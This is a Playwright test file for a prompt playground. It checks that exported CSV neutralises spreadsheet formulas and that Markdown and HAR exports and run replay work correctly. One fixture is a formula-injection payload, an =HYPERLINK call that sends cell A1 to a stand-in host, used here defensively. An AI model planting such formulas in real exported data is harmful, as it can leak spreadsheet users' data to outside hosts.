import { expect, test } from "./app.ts";
import { HistoryPage } from "./history-page.ts";
import { importRuns, pastRun } from "./imported-runs.ts";
import { PlaygroundPage } from "./playground-page.ts";
import { savedFile } from "./saved-file.ts";

const formula = '=HYPERLINK("http://example.test/?"&A1,"click")';

/** Cells of RFC 4180 text. */
function readCsv(text: string): string[][] {
  const cells = [...text.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g)];
  const rows: string[][] = [[]];
  for (const [, cell = "", end] of cells) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

test.describe("files as the page saves them", () => {
  test.beforeEach(async ({ page }) => {
    const history = new HistoryPage(page);
    const plain = pastRun(1, 1);
    await importRuns(history, [
      plain,
      pastRun(2, 1, {
        output: { ...plain.record.output, text: formula },
        notes: { note: '@SUM(1)\nsecond line, with "quotes" and ```fences```', rating: 4 },
      }),
    ]);
    await history.rows.first().click();
    await history.rows.nth(1).click({ modifiers: ["Control"] });
  });

  test("are a CSV that no spreadsheet runs, a Markdown no text leaves its fence in, and a HAR of every exchange", async ({
    page,
    host,
  }) => {
    const exported = (format: RegExp) =>
      savedFile(page, host, async () => {
        await page.getByRole("region", { name: "Chosen runs" }).getByRole("button", { name: "Export" }).click();
        await page.getByRole("menuitem", { name: format }).click();
      });
    const csv = await exported(/^CSV/);
    const markdown = await exported(/^Markdown/);
    const har = await exported(/^HAR/);

    const [head, ...rows] = readCsv(csv.replace(/^\ufeff/, ""));
    expect(rows).toHaveLength(2);
    const cell = (row: number, title: string) => rows[row]?.[head?.indexOf(title) ?? -1];
    expect(cell(0, "answer")).toBe(`'${formula}`);
    expect(cell(0, "note")).toBe('\'@SUM(1)\nsecond line, with "quotes" and ```fences```');
    expect(cell(0, "rating")).toBe("4");
    expect(cell(1, "answer")).toBe("Answer number 1.");
    expect(cell(1, "variables")).toBe('{"customer":"Customer 1"}');
    expect(rows.flat().filter((value) => /^\s*[=+@\t]/.test(value))).toEqual([]);

    expect(markdown).toContain("## Run 2: support/answer");
    expect(markdown).toContain("Help customer 1");
    expect(markdown).toContain(formula);
    expect(markdown).toContain("- Rating: 4 of 5");
    expect(markdown).toMatch(/````+\n@SUM\(1\)\nsecond line, with "quotes" and ```fences```\n````+\n/);

    const { log } = JSON.parse(har) as {
      log: {
        version: string;
        entries: {
          request: { method: string; url: string; headers: { name: string; value: string }[] };
          response: { status: number; content: { text: string } };
          time: number;
        }[];
      };
    };
    expect(log.version).toBe("1.2");
    expect(log.entries).toHaveLength(2);
    for (const { request, response, time } of log.entries) {
      expect([request.method, response.status]).toEqual(["POST", 200]);
      expect(response.content.text).toContain("Answer number");
      expect(time).toBeGreaterThan(0);
    }
  });
});

test("a run is replayed at its own speed and fast, marked, with the same answer", async ({ page }) => {
  const playground = new PlaygroundPage(page);
  const history = new HistoryPage(page);
  await playground.openPrompt(/reply-draft/);
  await playground.run();
  await expect(playground.figures).toContainText("200");
  const answer = await playground.output.innerText();
  await history.open();
  await history.rows.first().click();
  for (const [count, name] of [
    [2, "Replay at 1×"],
    [3, "Replay fast"],
  ] as const) {
    await history.run.getByRole("button", { name: "Replay" }).click();
    await page.getByRole("menuitem", { name }).click();
    await expect(history.rows).toHaveCount(count);
    await expect(history.run).toContainText("Replayed from a cassette");
    await expect(history.run).toContainText(answer.split("\n")[0] ?? "");
    await expect(history.rows.first()).toContainText("replayed");
  }
});
